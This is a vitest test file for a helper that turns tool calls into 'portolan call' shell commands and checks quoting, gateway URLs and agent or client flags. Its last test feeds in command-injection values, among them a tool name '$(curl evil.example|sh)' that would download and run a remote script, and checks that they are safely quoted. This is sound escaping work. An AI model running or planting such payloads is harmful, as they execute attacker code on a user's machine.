import { expect, it } from 'vitest'
import { callCommand } from './call-command.ts'

const ada = { agent: 'ada', client: 'toy', isClient: false, onBehalfOf: null }
const list = { server: 'tickets', tool: 'list_tickets' }

it('writes a call as a command for a shell', () => {
  expect(callCommand({ ...ada, ...list }, `{"q":"it's"}`)).toBe(
    `portolan call tickets__list_tickets '{"q":"it'\\''s"}' --agent ada`,
  )
})

it('names the gateway, so that it works in every folder', () => {
  expect(callCommand({ ...ada, ...list }, '{}', 'http://127.0.0.1:7411/mcp')).toBe(
    `portolan call --url http://127.0.0.1:7411/mcp tickets__list_tickets '{}' --agent ada`,
  )
})

it('calls as the client did that had no key, and as the agent that minted a handle', () => {
  const caller = { agent: 'codex', client: 'codex-mcp-client', onBehalfOf: ['default'] }
  expect(callCommand({ ...caller, ...list, isClient: true }, '{}')).toMatch(
    / --client codex-mcp-client$/,
  )
  const minted = { ...caller, agent: 'helper', onBehalfOf: ['worker', 'ada'], isClient: false }
  expect(callCommand({ ...minted, ...list }, '{}')).toMatch(/ --agent ada$/)
})

it('never lets a name of strangers run in the shell of the reader', () => {
  const call = { ...ada, agent: 'a;b', server: 'evil', tool: '$(curl evil.example|sh)' }
  expect(callCommand(call, '{}')).toBe(
    `portolan call 'evil__$(curl evil.example|sh)' '{}' --agent 'a;b'`,
  )
  const client = { ...call, client: '$(id)', isClient: true }
  expect(callCommand(client, '{}')).toMatch(/ --client '\$\(id\)'$/)
})
